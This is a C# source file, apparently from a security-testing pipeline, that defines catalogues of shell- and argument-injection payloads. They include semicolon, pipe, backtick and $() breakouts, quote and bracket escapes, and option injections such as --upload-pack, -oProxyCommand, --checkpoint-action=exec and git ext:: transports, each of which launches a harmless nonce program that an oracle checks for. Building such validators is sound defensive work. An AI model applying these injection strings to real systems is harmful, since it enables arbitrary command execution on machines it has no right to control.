using CodexSecurity.Pipeline.Validation.Judging;
using CodexSecurity.Pipeline.Validation.Planning;

namespace CodexSecurity.Pipeline.Validation.Library.Payloads;

/// <summary>Shell and argument injection: the effect is the start of a program whose name is the nonce, so that no space or slash is needed.</summary>
public sealed class CommandPayloads(AttackClass attack) : TextKit
{
    private const string X = CommandOracle.Program + "{T}";

    private static readonly TextPayload[] s_shell =
    [
        new("separator", "{B};" + X + ";"), new("substitution", "{B}$(" + X + ")"), new("double-quote breakout", "{B}\";" + X + ";\""),
        new("single-quote breakout", "{B}';" + X + ";'"), new("pipe", "{B}|" + X), new("backtick", "{B}`" + X + "`"), new("background", "{B}&" + X + "&"),
        new("newline", "{B}\n" + X + "\n"), new("program name", X),
    ];

    private static readonly TextPayload[] s_more =
    [
        new("and", "{B}&&" + X), new("or", "{B}||" + X), new("separator, comment", ";" + X + ";#"), new("double-quote breakout, comment", "{B}\";" + X + ";#"),
        new("single-quote breakout, comment", "{B}';" + X + ";#"), new("bracket breakout", "{B});" + X + ";#"), new("double quote and bracket breakout", "{B}\");" + X + ";#"),
        new("escaped quote breakout", "{B}\\\";" + X + ";#"), new("substitution alone", "$(" + X + ")"), new("double substitution", "\"$(" + X + ")\""),
        new("separator in the second word", "{B} ;" + X + ";"), new("separator alone", ";" + X), new("pipe alone", "|" + X + "|"), new("carriage return", "{B}\r\n" + X + "\r\n"), new("shell argument", "-c " + X),
        new("url with substitution", "http://127.0.0.1/$(" + X + ")"), new("url with separator", "http://127.0.0.1/;" + X + ";"), new("number with separator", "1;" + X + ";"),
        new("file with separator", "input.txt;" + X + ";"), new("quoted file", "input.txt\";" + X + ";\""),
    ];

    private static readonly TextPayload[] s_arguments =
    [
        new("option upload-pack", "--upload-pack=" + X), new("option exec", "--exec=" + X), new("option ProxyCommand", "-oProxyCommand=" + X),
        new("option compress program", "--use-compress-program=" + X), new("option checkpoint action", "--checkpoint-action=exec=" + X),
        new("option pager", "--open-files-in-pager=" + X), new("option config", "--config=core.sshCommand=" + X), new("ext transport", "ext::" + X), new("option alias", "-c alias.v=!" + X + " v"),
    ];

    /// <inheritdoc />
    public override AttackClass Class => attack;

    /// <inheritdoc />
    public override OracleSpec Oracle => OracleSpec.Of("command");

    /// <inheritdoc />
    public override IReadOnlyList<TextPayload> Payloads(bool wide) => attack == AttackClass.Argument
        ? wide ? [.. s_arguments, .. s_shell] : s_arguments
        : wide ? [.. s_shell, .. s_more, .. s_arguments] : s_shell;

    // A function that only makes the function which starts the program does nothing by itself.
    /// <inheritdoc />
    public override HarnessInput Tune(HarnessInput input) => base.Tune(input) with { Touch = true };

    // Shells look a program up before they start it, so the attacker's program has to be there.
    /// <inheritdoc />
    public override ProofJob Equip(ProofJob job, IReadOnlyList<string> tags) =>
        job with { TraceCommands = true, StandIns = [.. job.StandIns, .. tags.Select(t => CommandOracle.Program + t)] };
}
